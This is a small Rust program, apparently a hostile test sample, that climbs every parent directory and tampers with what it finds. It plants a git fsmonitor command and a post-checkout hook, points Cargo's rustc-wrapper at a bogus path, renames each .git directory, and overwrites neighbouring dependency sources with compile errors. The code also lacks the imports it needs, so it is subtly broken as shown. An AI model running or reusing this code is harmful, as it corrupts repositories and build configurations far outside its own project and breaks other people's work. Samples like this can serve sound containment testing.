/// Every folder that can be reached gets orders for programs of the host, and what lies beside is changed.
fn main() {
    let mut place = std::env::current_dir().unwrap();
    loop {
        for (name, text) in [
            (".git/config", "[core]\n\tfsmonitor = false-but-called\n"),
            (".git/hooks/post-checkout", "#!/bin/sh\n"),
            (".cargo/config.toml", "[build]\nrustc-wrapper = \"/nowhere\"\n"),
            ("target/debug/POISON", ""),
        ] {
            if place.join(name).parent().unwrap().is_dir() {
                let _ = fs::OpenOptions::new().append(true).create(true).open(place.join(name)).map(|mut file| file.write_all(text.as_bytes()));
            }
        }
        let _ = fs::rename(place.join(".git"), place.join(".git-away"));
        if place.ends_with("services/api") || place.join("beside").is_dir() {
            let _ = fs::write(place.join("beside/POISON"), "");
        }
        if !place.pop() {
            break;
        }
    }
    let _ = fs::write("../dependency/src/lib.rs", "compile_error!(\"poisoned\");");
    let _ = fs::write("../../../elsewhere/dependency/src/lib.rs", "compile_error!(\"poisoned\");");
}
